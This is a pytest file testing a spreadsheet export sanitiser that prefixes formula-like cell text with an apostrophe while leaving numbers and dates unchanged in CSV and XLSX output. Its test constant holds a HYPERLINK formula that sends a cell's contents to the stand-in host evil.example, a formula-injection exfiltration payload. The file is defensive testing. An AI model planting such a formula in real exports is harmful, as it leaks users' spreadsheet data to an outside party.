"""One cell sanitiser for every spreadsheet export: formula-like text is neutralised, numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from talentas.core.exports import csv_response, safe_cell, xlsx_response

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'


@pytest.mark.parametrize("text", [EVIL, "+1+1", "-1+A1", "@SUM(A1:A2)", "\t=1", "\r=1", "-", "+370 600 00000"])
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, 3, -2.5, Decimal("-1.20"), True, datetime.date(2026, 1, 2)])
def test_numbers_and_dates_stay_as_they_are(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("text", ["Nemuno inžinerija", "-12", "-0.5", "12", "a=b", ""])
def test_plain_text_and_numbers_written_as_text_are_unchanged(text):
    assert safe_cell(text) == text


def test_nothing_is_an_empty_cell_and_a_dict_is_json():
    assert safe_cell(None) == ""
    assert safe_cell({"sex": "=1"}) == '{"sex": "=1"}'


def test_csv_response_neutralises_header_and_cells():
    response = csv_response(filename="x.csv", header=["Name", EVIL], rows=[[EVIL, -3, "ok"]])
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["Name", "'" + EVIL], ["'" + EVIL, "-3", "ok"]]


def test_xlsx_response_has_no_formula_and_keeps_numbers():
    response = xlsx_response(filename="x.xlsx", header=["Name", EVIL], rows=[[EVIL, -3, 2.5]], sheet_title="values")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert sheet["B1"].value == sheet["A2"].value == "'" + EVIL
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-3, "n")
    assert (sheet["C2"].value, sheet["C2"].data_type) == (2.5, "n")
